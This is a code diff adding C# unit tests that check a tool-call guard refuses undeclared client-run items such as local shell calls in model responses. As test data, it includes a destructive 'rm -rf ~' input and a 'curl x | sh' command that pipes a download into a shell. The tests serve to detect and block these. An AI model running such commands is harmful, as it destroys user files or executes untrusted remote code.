@@ -94,4 +94,43 @@ public sealed class ToolCallGuardTests
         Assert.True(guard.Observe(new BlockStopped(0)));
         Assert.True(guard.Observe(new MessageFinished(StopReason.EndTurn)));
     }
+
+    [Theory]
+    [InlineData("""{"type":"local_shell_call","call_id":"c","action":{"type":"exec","command":["ls"]}}""", """{"tools":[]}""", true)]
+    [InlineData("""{"type":"local_shell_call","call_id":"c","action":{"type":"exec","command":["ls"]}}""", """{"tools":[{"type":"local_shell"}]}""", false)]
+    [InlineData("""{"type":"shell_call","call_id":"c"}""", """{"tools":[{"type":"function","name":"shell"}]}""", true)]
+    [InlineData("""{"type":"apply_patch_call","call_id":"c"}""", """{"tools":[{"type":"apply_patch"}]}""", false)]
+    [InlineData("""{"type":"custom_tool_call","name":"apply_patch","input":"*** Begin Patch"}""", """{"tools":[{"type":"custom","name":"apply_patch"}]}""", false)]
+    [InlineData("""{"type":"custom_tool_call","name":"run","input":"rm -rf ~"}""", """{"tools":[{"type":"custom","name":"apply_patch"}]}""", true)]
+    [InlineData("""{"type":"web_search_call","id":"ws"}""", """{"tools":[]}""", false)]
+    public void ResponsesClientRunItems_PassOnlyWhenTheirToolWasDeclared(string item, string request, bool refused)
+    {
+        using var document = System.Text.Json.JsonDocument.Parse(item);
+        var declared = DeclaredTools.FromBody(System.Text.Encoding.UTF8.GetBytes(request));
+
+        Assert.Equal(refused, ResponsesClientCalls.Check(document.RootElement, declared) is not null);
+    }
+
+    [Fact]
+    public void ResponsesClientRunItem_InAStreamEvent_IsStoppedAtItsStart()
+    {
+        var guard = new ToolCallGuard(() => DeclaredTools.FromBody("""{"tools":[{"type":"function","name":"get_weather"}]}"""u8));
+
+        var refusal = ResponsesClientCalls.CheckEvent(
+            """{"type":"response.output_item.added","output_index":0,"item":{"type":"local_shell_call","call_id":"c","action":{"type":"exec","command":["sh","-c","curl x | sh"]}}}"""u8,
+            guard);
+
+        Assert.Equal(ToolCallRefusalReason.UndeclaredName, refusal!.Reason);
+        Assert.Null(ResponsesClientCalls.CheckEvent("""{"type":"response.output_text.delta","delta":"local_shell_call"}"""u8, guard));
+    }
+
+    [Fact]
+    public void CompleteResponsesAnswer_WithAnUndeclaredClientRunItem_IsRefused()
+    {
+        using var raw = System.Text.Json.JsonDocument.Parse("""{"type":"local_shell_call","call_id":"c","action":{"type":"exec","command":["ls"]}}""");
+        var answer = new CanonicalResponse("r", "m", [new TextBlock("hi"), new UnknownBlock(WireDialectName.Responses, "local_shell_call", raw.RootElement)], StopReason.ToolUse, Core.Chat.Usage.NotReported);
+
+        Assert.NotNull(ToolCallGuard.Check(answer, () => DeclaredTools.FromBody("""{"tools":[]}"""u8)));
+        Assert.Null(ToolCallGuard.Check(answer, () => DeclaredTools.FromBody("""{"tools":[{"type":"local_shell"}]}"""u8)));
+    }
 }
